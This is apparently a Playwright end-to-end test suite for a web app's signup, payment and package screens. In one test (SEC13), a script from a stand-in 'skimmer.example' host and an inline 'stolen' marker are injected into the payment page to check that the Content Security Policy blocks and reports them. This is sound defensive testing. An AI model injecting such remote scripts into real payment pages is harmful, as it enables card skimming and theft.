import { readFileSync } from 'node:fs';
import path from 'node:path';
import { m } from '#messages/messages.js';
import { entryPages } from '#web/entry-pages.ts';
import { appPage, expect, join, setLanguage, site, test, untilQuiet } from '../journey.ts';
import { parentA } from '../parent-a.ts';
import { forgetFiles } from '../reused-profiles.ts';
import { watchShifts } from '../watch-layout-shifts.ts';

test.beforeEach(({ page }) => forgetFiles(page));

test('the root leads to the first page, in the visitor’s language; every file it requests arrives, and nothing is requested from anyone else', async ({
  page,
}) => {
  const failed: string[] = [];
  const foreign: string[] = [];
  page.on('response', (response) => {
    if (response.status() >= 400) failed.push(`${response.status()} ${response.url()}`);
    if (!response.url().startsWith(site().url) && !response.url().startsWith('data:')) foreign.push(response.url());
  });
  await page.goto(`${site().url}/`);
  await expect(page).toHaveURL(join('/signup'));
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await expect(page.locator('html')).toHaveAttribute('lang', 'en');
  await untilQuiet(page);
  await setLanguage(page, 'es');
  await page.reload();
  await expect(page.locator('html')).toHaveAttribute('lang', 'es');
  expect(failed).toEqual([]);
  expect(foreign).toEqual([]);
});

test('nothing on an entry page moves when its script and fonts load', async ({ page }) => {
  await page.setViewportSize({ width: 360, height: 740 });
  const shifts = await watchShifts(page);
  for (const { address } of entryPages) {
    await page.goto(appPage(address));
    await untilQuiet(page);
  }
  expect(shifts.moved()).toEqual([]);
});

test('SEC13: a script planted in a payment page neither runs nor loads, and the browser reports it', async ({
  page,
  complaints,
}) => {
  const strangers: string[] = [];
  page.on('response', (response) => {
    if (response.url().includes('skimmer.example')) strangers.push(response.url());
  });
  await page.goto(join('/payment'));
  const reported = page.waitForResponse((response) => response.url().endsWith('/api/csp-reports'));
  await page.evaluate(() => {
    const loaded = document.createElement('script');
    loaded.src = 'https://skimmer.example/take.js';
    const written = document.createElement('script');
    written.textContent = 'document.documentElement.dataset.stolen = "yes"';
    document.body.append(loaded, written);
  });
  const report = await reported;
  expect(report.status()).toBe(204);
  expect(report.request().postData()).toContain('script-src');
  expect(await page.locator('html').getAttribute('data-stolen')).toBeNull();
  expect(strangers).toEqual([]);
  await expect.poll(() => complaints.length).toBe(2);
  complaints.length = 0;
});

test('the next screen and its data are preloaded: a click fetches no script and waits for no list', async ({
  page,
}) => {
  const journey = parentA(page);
  await journey.open('/step1');
  const names = async (isIt: (entry: PerformanceResourceTiming) => boolean) => {
    const entries = await page.evaluate(() =>
      (performance.getEntriesByType('resource') as PerformanceResourceTiming[]).map((entry) => entry.toJSON()),
    );
    return entries.filter(isIt).map(({ name }) => name);
  };
  const fetchedAhead = async (screen: string) =>
    await expect
      .poll(() => names(({ name, initiatorType }) => initiatorType === 'fetch' && name.includes(`/${screen}-`)))
      .not.toEqual([]);
  await fetchedAhead('CoParent');
  await journey.details();
  await fetchedAhead('Packages');
  const lists: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('/v2/packages')) lists.push(request.url());
  });
  await journey.family();
  await expect(journey.heading(m.packages_heading({}, journey.t))).toBeVisible();
  await expect(page.getByRole('button', { name: m.packages_select({}, journey.t) }).first()).toBeVisible();
  expect(lists).toEqual([]);
  const scripts = ['CoParent', 'Packages'].map((screen) =>
    names(
      ({ name, initiatorType, transferSize }) =>
        name.includes(`/${screen}-`) && name.endsWith('.js') && initiatorType !== 'fetch' && transferSize > 0,
    ),
  );
  expect(await Promise.all(scripts)).toEqual([[], []]);
});

const project = path.resolve(import.meta.dirname, '../../..');
const readme = readFileSync(path.join(project, 'README.md'), 'utf8');

test('every address and command that README and the start name exists, and the API document opens with its files and styles', async ({
  page,
  request,
}) => {
  // The page of the API document draws every call, which takes half a minute in this browser on a busy machine.
  test.slow();
  const announced = readFileSync(path.join(project, 'scripts/start/announcement.ts'), 'utf8');
  const named = [...readme.matchAll(/http:\/\/localhost:(3000|3001)([\w/.-]*[\w/])?/g)].map(
    ([, port, address = '/']) => `${port === '3000' ? site().url : site().sandbox}${address}`,
  );
  const started = [...announced.matchAll(/\$\{publicUrl\}(\/[\w/-]+)/g)].map(
    ([, address = '']) => `${site().url}${address}`,
  );
  expect(named.length).toBeGreaterThan(5);
  for (const url of new Set([...named, ...started]))
    expect([url, (await request.get(url)).status()]).toEqual([url, 200]);

  const { scripts } = JSON.parse(readFileSync(path.join(project, 'package.json'), 'utf8')) as {
    scripts: Record<string, string>;
  };
  const commands = [...readme.matchAll(/npm (?:run )?([\w-]+)/g)].map(([, name = '']) => name);
  expect(commands.filter((name) => !scripts[name])).toEqual([]);

  expect(readme).toContain('`/api/docs`');
  for (const address of ['/api/docs', '/api/docs/']) {
    const opened = await request.get(`${site().url}${address}`);
    const files = [...(await opened.text()).matchAll(/(?:src|href)="([^"]+\.(?:js|css))"/g)].map(
      ([, file = '']) => new URL(file, opened.url()).href,
    );
    expect(files.length).toBeGreaterThan(2);
    for (const file of files) expect([file, (await request.get(file)).status()]).toEqual([file, 200]);
  }
  const described = (await (await request.get(`${site().url}/api/docs/json`)).json()) as { paths: object };
  expect(Object.keys(described.paths)).toContain('/api/v2/registrations');
  await page.goto(`${site().url}/api/docs`);
  await expect(page.getByRole('link', { name: 'Registrations', exact: true })).toBeVisible({ timeout: 60_000 });
});
